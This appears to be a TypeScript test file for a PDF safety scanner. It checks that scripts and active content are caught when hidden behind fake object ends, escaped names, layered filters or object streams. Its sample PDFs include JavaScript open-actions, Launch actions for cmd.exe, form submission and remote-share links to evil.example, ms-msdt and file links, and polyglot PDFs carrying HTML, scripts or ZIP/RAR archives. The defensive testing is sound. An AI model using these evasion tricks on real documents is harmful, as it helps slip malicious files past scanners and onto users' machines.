import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import {
  catalogOf,
  packedOf,
  pageOf,
  type SampleObject,
  samplePdf,
  streamOf,
} from '../../../testing/sample-pdf';
import { zipOf } from '../../../testing/sample-zip';
import { judgePdf } from './judge-pdf';
import { readPdf } from './read-pdf';

/** Returns the result that PDFium's interpretation of the file alone leads to. */
async function readingOf(bytes: Buffer): Promise<string> {
  const outDir = await mkdtemp(path.join(tmpdir(), 'aw-hostile-'));
  const result = await readPdf(bytes, {
    kind: 'pdf',
    keepsScans: false,
    outDir,
    onProgress: () => undefined,
  });
  await rm(outDir, { recursive: true });
  return result.status === 'refused' ? result.code : result.status;
}
const scanOf = async (bytes: Buffer) => (await judgePdf(bytes))?.code ?? 'read';
const verdictOf = async (bytes: Buffer) => (await judgePdf(bytes))?.code ?? (await readingOf(bytes));
const pdfOf = (catalog: string, ...objects: SampleObject[]) =>
  samplePdf([[1, catalogOf(catalog)], ...pageOf(), ...objects]);

const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const script = `/OpenAction ${action}`;
const flate = (bytes: Buffer) => deflateSync(bytes);
const hex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
const spacedHex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex').split('').join(' ')}>`);
/** Applies PNG's "up" prediction in rows of 16 bytes. */
function predicted(bytes: Buffer): Buffer {
  const padded = Buffer.alloc(Math.ceil(bytes.length / 16) * 16, 32);
  bytes.copy(padded);
  const rows = Array.from({ length: padded.length / 16 }, (_, row) => {
    const line = padded.subarray(row * 16, row * 16 + 16);
    return Buffer.from([
      2,
      ...line.map((byte, at) => byte - (row === 0 ? 0 : (padded[row * 16 - 16 + at] ?? 0))),
    ]);
  });
  return deflateSync(Buffer.concat(rows));
}
/** Returns a PDF whose catalogue, with a script, is in an object stream that is packed by `pack`. */
const packedPdf = (entries: string, pack: (bytes: Buffer) => Buffer, ...more: SampleObject[]) =>
  samplePdf([...pageOf(), [6, packedOf([[1, catalogOf(script)]], entries, pack)], ...more], {
    packed: { 1: [6, 0] },
  });

describe('scripts that hide from a scan of the bytes', () => {
  it.each([
    ['behind endobj in a dictionary', pdfOf(`/A endobj ${script}`)],
    ['behind stream in a dictionary', pdfOf(`/A stream ${script}`)],
    ['behind obj in a dictionary', pdfOf(`/A 9 0 obj ${script}`)],
    ['behind a bracket too many', pdfOf(`/A ] /B endobj ${script}`)],
    ['behind a string that names an end', pdfOf(`/A (endobj) /B (stream) ${script}`)],
    ['behind a comment', pdfOf(`% >> endobj\n${script}`)],
    ['behind nested dictionaries', pdfOf(`/A << /B << /C [ << >> endobj ] >> >> ${script}`)],
    ['behind a string where a key belongs', pdfOf(`( ${script}`)],
    ['behind digits where a key belongs', pdfOf(`<4 ${script}`)],
    ['behind a stream that opens in a dictionary', pdfOf(`9 0 obj stream\n${script}`)],
    ['in a list where a key belongs', pdfOf(`obj [ ${script} ]`)],
    ['in an escaped name', pdfOf('/OpenAction << /S /J#61vaScript /J#53 (1) >>')],
    ['in a name of its own', pdfOf('/OpenAction << /S 7 0 R /JS (1) >>', [7, '/JavaScript'])],
    [
      'in an unpacked stream that says endstream',
      samplePdf(
        [
          ...pageOf(),
          [
            6,
            packedOf([
              [7, '(endstream)'],
              [1, catalogOf(script)],
            ]),
          ],
        ],
        { packed: { 1: [6, 1] } },
      ),
    ],
    [
      'behind a string that opens before the first object',
      samplePdf(
        [
          ...pageOf(),
          [
            6,
            packedOf(
              [
                [7, '(\\)'],
                [1, catalogOf(script)],
              ],
              '/Filter /FlateDecode',
              flate,
            ),
          ],
        ],
        { packed: { 1: [6, 1] } },
      ),
    ],
  ])('[D12] a script is found %s', async (_, bytes) => {
    expect([await scanOf(bytes), await readingOf(bytes)]).toEqual(['active', 'active']);
  });

  it.each([
    [
      'a prediction',
      packedPdf('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 16 >>', predicted),
    ],
    [
      'its parameters elsewhere',
      packedPdf('/Filter /FlateDecode /DecodeParms 7 0 R', predicted, [7, '<< /Predictor 12 /Columns 16 >>']),
    ],
    ['a filter elsewhere', packedPdf('/Filter 7 0 R', flate, [7, '/FlateDecode'])],
    [
      'a second filter elsewhere',
      packedPdf('/Filter [/FlateDecode 7 0 R]', (b) => flate(spacedHex(b)), [7, '/ASCIIHexDecode']),
    ],
    ['two layers', packedPdf('/Filter [/FlateDecode /FlateDecode]', (bytes) => flate(flate(bytes)))],
    ['hexadecimal digits', packedPdf('/Filter /ASCIIHexDecode', hex)],
    ['an escaped filter', packedPdf('/F#69lter /ASCIIHexDecode', hex)],
    ['the filter named twice', packedPdf('/Filter /FlateDecode /Filter /ASCIIHexDecode', hex)],
    [
      'a catalogue that is there twice',
      samplePdf(
        [
          ...pageOf(),
          [6, packedOf([[1, catalogOf(script)]], '/Filter /ASCIIHexDecode', hex)],
          [7, packedOf([[1, catalogOf('')]], '/Filter /ASCIIHexDecode', hex)],
        ],
        { packed: { 1: [6, 0] } },
      ),
    ],
  ])(
    '[D12] an object stream with %s is refused as unchecked, and PDFium does not accept it either',
    async (_, bytes) => {
      expect([await scanOf(bytes), await readingOf(bytes)]).toEqual([
        'unchecked',
        expect.stringMatching(/active|broken/),
      ]);
    },
  );

  it.each(['null', '[ null ]'])(
    '[D12] an object stream with the parameters %s is scanned',
    async (parameters) => {
      const entries = `/Filter /FlateDecode /DecodeParms ${parameters}`;
      expect(await scanOf(packedPdf(entries, flate))).toBe('active');
    },
  );

  it('[D12] an earlier version of a file is scanned, and a file with bytes before its header', async () => {
    const old = pdfOf(script);
    const update = `\n1 0 obj\n${catalogOf('')}\nendobj\nxref\n1 1\n${String(old.length + 1).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n${old.length + 60}\n%%EOF\n`;
    expect(await scanOf(Buffer.concat([old, Buffer.from(update)]))).toBe('active');
    expect(await scanOf(Buffer.concat([Buffer.from('\r\n\n'), old]))).toBe('active');
  });

  it('[D12] a file that would be scanned without an end is refused, and a large one with many objects is accepted', async () => {
    const junk = streamOf('', '\n1 0 obj('.repeat(30_000));
    const hidden = samplePdf([...pageOf(), [8, junk], [1, catalogOf(script)], [1, catalogOf('')]]);
    expect([await scanOf(hidden), await readingOf(hidden)]).toEqual(['unchecked', 'active']);
    const many = Array.from(
      { length: 40_000 },
      (_, at): SampleObject => [at + 10, `<< /S /P /P ${at + 9} 0 R >>`],
    );
    const large = pdfOf('/StructTreeRoot 40009 0 R', ...many, [50_000, streamOf('', randomBytes(8_000_000))]);
    expect(await verdictOf(large)).toBe('read');
  });
});

describe('scripts outside of objects', () => {
  const [numberTooHigh, behind] = [5_000_000, [8, streamOf('', 'bytes')] satisfies SampleObject];
  const trailer = (root: string) => `trailer\n<< /Size 9 /Root ${root} >>\n`;
  it.each([
    ['in a trailer behind a stream', pdfOf('', behind, [null, trailer(catalogOf(script))])],
    [
      'in the first of two trailers at the end',
      samplePdf([[1, catalogOf('')], ...pageOf()], {
        tail: `xref\n0 0\n${trailer(catalogOf(script))}${trailer('1 0 R')}startxref\n9\n%%EOF\n`,
      }),
    ],
    ['in a dictionary behind a stream', pdfOf('', behind, [null, `<< ${script} >>\n`])],
    ['behind a stream without an end', pdfOf('', [8, '<< >>\nstream\nx'], [null, `<< ${script} >>\n`])],
    ['before the first object', samplePdf([...pageOf()], { head: `%PDF-1.7\n<< ${script} >>\n` })],
    ['behind a number with a dot', pdfOf('', behind, [null, `7 0. obj\n${action}\nendobj\n`])],
    ['behind a number with a sign', pdfOf('', behind, [null, `7 0- obj\n${action}\nendobj\n`])],
    ['behind a bracket', pdfOf('', behind, [null, `7 0 (x) obj\n${action}\nendobj\n`])],
  ])('[D12] a script outside of objects is found %s', async (_, bytes) => {
    expect(await scanOf(bytes)).toBe('active');
  });

  it('[D12] an object with a number that PDFium does not read is refused', async () => {
    const far = (number: number) => `/X [4194304 0 ${number} 0 R]`;
    expect(await scanOf(pdfOf(far(numberTooHigh)))).toBe('unchecked');
    expect(await scanOf(pdfOf(far(3), [7, '[4999999 5000000 3 0 R]']))).toBe('read');
  });
});

describe('encrypted PDFs', () => {
  async function encrypted(uri: string, userPassword = ''): Promise<Buffer> {
    const document = await PDFDocument.create();
    const page = document.addPage();
    page.drawText('A page like any other.');
    const link = {
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 9, 9],
      A: { S: 'URI', URI: PDFString.of(uri) },
    };
    page.node.set(PDFName.of('Annots'), document.context.obj([link] as never));
    document.encrypt({ userPassword, ownerPassword: 'owner' });
    return Buffer.from(await document.save({ useObjectStreams: true }));
  }

  it('[D12] an encrypted PDF that needs a password is refused as locked, also with packed objects', async () => {
    expect(await scanOf(await encrypted('https://example.org/', 'open sesame'))).toBe('encrypted');
  });

  it('[D12] an encrypted PDF without a password is accepted, unless a link runs a script or an object stream occurs twice', async () => {
    const honest = await encrypted('https://example.org/');
    expect(await verdictOf(honest)).toBe('read');
    expect(await verdictOf(await encrypted('javascript:alert(1)'))).toBe('active');
    const stream =
      /\d+ 0 obj\s*<<[^>]*\/ObjStm[^>]*>>\s*stream[\s\S]*?endobj/.exec(honest.toString('latin1'))?.[0] ?? '';
    const twice = Buffer.concat([honest.subarray(0, -6), Buffer.from(`\n${stream}\n%%EOF\n`, 'latin1')]);
    expect([stream.length > 0, await scanOf(twice)]).toEqual([true, 'unchecked']);
  });
});

const link = (uri: string) => `/OpenAction << /S /URI /URI (${uri}) >>`;
const remote = '<< /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.example\\\\a) >>';
describe('actions and annotations', () => {
  it.each([
    [
      'a form that is sent on opening',
      '/OpenAction << /S /SubmitForm /F (http://evil.example/) >>',
      'active',
    ],
    ['values fetched into a form', '/OpenAction << /S /ImportData /F (a.fdf) >>', 'active'],
    ['a program to start', '/OpenAction << /S /Launch /F (cmd.exe) >>', 'active'],
    ['a document inside another', '/OpenAction << /S /GoToE /F (a.pdf) >>', 'active'],
    ['a document on another computer', `/OpenAction ${remote}`, 'active'],
    [
      'a document on another computer in hexadecimal digits',
      '/OpenAction << /S /GoToR /D [0 /Fit] /F << /UF <FEFF005C005C0065> >> >>',
      'active',
    ],
    ['a film', '/X << /Subtype /Movie /Movie << /F (x.avi) >> >>', 'active'],
    ['a sound', '/X << /S /Sound /Sound 9 0 R >>', 'active'],
    ['a rendition', '/OpenAction << /S /Rendition /R 9 0 R >>', 'active'],
    ['an XFA form', '/AcroForm << /XFA [] >>', 'active'],
    ['a link that runs a script', '/OpenAction << /S /URI /URI (java\\163cript:alert\\(1\\)) >>', 'active'],
    ['links that all run scripts', '/URI << /Base (javascript:) >>', 'active'],
    ['a link with its address elsewhere', '/OpenAction << /S /URI /URI 7 0 R >>', 'active'],
    ['a link to a file on another computer', link('file://evil.example/share/x'), 'active'],
    ['a link to a share', link('\\\\\\\\evil.example\\\\share'), 'active'],
    ['a link to a share with slashes', link('//evil.example/share'), 'active'],
    ['a link to a program', link('file:///C:/Windows/System32/calc.exe'), 'active'],
    ['a link to a program that the system knows', link('ms-msdt:/id PCWDiagnostic'), 'active'],
    ['a link with a page in it', link('data:text/html,x'), 'active'],
    ['links that all lead to a file', '/URI << /Base (file:///C:/) >>', 'active'],
    ['a link behind many blanks', link(`${' '.repeat(700)}javascript:1`), 'active'],
    ['a link with the address of a program elsewhere', '/OpenAction << /S /URI /URI 9 0 R >>', 'active'],
    ['an address for letters', link('mailto:a@example.org?subject=Help: now'), 'read'],
    ['a telephone number', link('tel:+1-555-0100'), 'read'],
    ['a place in this document', link('#chapter: 2'), 'read'],
    ['a page beside this one', link('notes/week 3: trees.html'), 'read'],
    ['a link without a scheme', link('www.example.org:8080/a'), 'read'],
    ['an empty link', link(''), 'read'],
    ['a link in UTF-16', '/OpenAction << /S /URI /URI <FEFF0068007400740070003A002F002F0061> >>', 'read'],
    ['a file without a name', '/AF [10 0 R]', 'attachments'],
    ['a role that is named like an action', '/RoleMap << /Launch /P /Sound /Code >>', 'read'],
    ['destinations that are named like actions', '/Dests << /Launch [3 0 R /Fit] >>', 'read'],
    ['an action with its type elsewhere', '/OpenAction << /S 11 0 R /F (cmd.exe) >>', 'active'],
    ['a file under an old name', '/AF [<< /Type /FileSpec /DOS (a.exe) /EF 8 0 R >>]', 'attachments'],
    ['a file under its new name', '/AF [<< /UF (a.exe) /EF << /UF 8 0 R >> >>]', 'attachments'],
    ['a link to a page about scripts', '/A << /S /URI /URI (https://example.org/Web/JavaScript) >>', 'read'],
    ['a web link', '/OpenAction << /S /URI /URI (https://example.org/?q=javascript:) >>', 'read'],
    ['a link that does nothing', '/OpenAction << /S /URI /URI (javascript:void\\(0\\);) >>', 'read'],
    ['a page of this document', '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>', 'read'],
    ['a document beside this one', '/OpenAction << /S /GoToR /D [0 /Fit] /F (chapter2.pdf) >>', 'read'],
    ['a file that is only named', '/X << /Type /Filespec /F (a.eps) /UF (a.eps) >>', 'read'],
    ['a title about scripts', '/X 7 0 R', 'read'],
  ])('[D12] %s is judged correctly', async (_, entries, code) => {
    const others: SampleObject[] = [
      [9, '(ms-msdt:/id)'],
      [11, '/Launch'],
    ];
    const bytes = pdfOf(
      entries,
      [7, '(javascript: the good parts)'],
      [8, streamOf('', 'MZ')],
      ...(entries.includes('10 0 R') ? [[10, '<< /EF 8 0 R >>'] satisfies SampleObject] : []),
      ...others.filter(([number]) => entries.includes(`${number} 0 R`)),
    );
    expect([await scanOf(bytes), await readingOf(bytes)]).toEqual([code, code]);
  });
});

describe('a PDF that also opens as another kind of file', () => {
  const withHead = (comment: string) =>
    samplePdf([[1, catalogOf('')], ...pageOf()], { head: `%PDF-1.7\n%${comment}\n` });
  const withTail = (tail: string) => samplePdf([[1, catalogOf('')], ...pageOf()], { tail });
  const between = (text: string) => samplePdf([[1, catalogOf('')], [null, text], ...pageOf()]);
  const zip = zipOf([{ name: 'a.exe', bytes: 'MZ', isStored: true }]).toString('latin1');
  it.each([
    ['a script with a slash', withHead('<script/x>alert(1)</script>')],
    ['a picture with a script', withHead('<img src=x onerror=alert(1)>')],
    ['a drawing with a script', withHead('<svg/onload=alert(1)>')],
    ['a form', between('<form action=x>')],
    ['a link', between('<a href="javascript:1">')],
    ['a tag of its own', between('<x-y>')],
    ['a comment of a web page', between('<!-- x -->')],
    ['a program for a server', between('<?php 1 ?>')],
    ['a film behind a stream', pdfOf('', [8, streamOf('', 'x')], [null, '<video src=x>'])],
    ['a TAR archive', withHead(`${'x'.repeat(247)}ustar`)],
    ['a web page behind many blanks', between(`${' '.repeat(2000)}<html><body>`)],
    ['a web page between two ends', withTail('<html><script>alert(1)</script>\n%%EOF\n')],
    ['a RAR archive between two ends', withTail('Rar!\x1a\x07\x00 packed\n%%EOF\n')],
    ['a RAR archive in a stream', pdfOf('', [9, streamOf('', 'Rar!\x1a\x07\x00 packed')])],
    ['a 7-Zip archive', withTail('7z\xbc\xaf\x27\x1c\n%%EOF\n')],
    ['a ZIP archive between two ends', withTail(`${zip}\n%%EOF\n`)],
    ['a ZIP archive in a stream', pdfOf('', [9, streamOf('', Buffer.from(zip, 'latin1'))])],
  ])('[D12] a PDF with %s is refused', async (_, bytes) => {
    expect(await scanOf(bytes)).toBe('mismatch');
  });

  it('[D12] pages and titles about web pages are accepted, also in the first lines', async () => {
    const title: SampleObject = [
      9,
      '<< /Title (<script>: The Script element) /Subject (<form> <body onload=1>) >>',
    ];
    const page: SampleObject = [4, streamOf('', 'BT /F1 14 Tf 50 200 Td (<html><script>) Tj ET')];
    const bytes = samplePdf([title, page, [1, catalogOf('/Lang <656E>')], ...pageOf()], {
      tail: 'trailer\n<< /Size 9 /Root 1 0 R /ID [<AbCd> <ef 01>] >>\n%%EOF\n',
    });
    expect(await verdictOf(bytes)).toBe('read');
  });
});
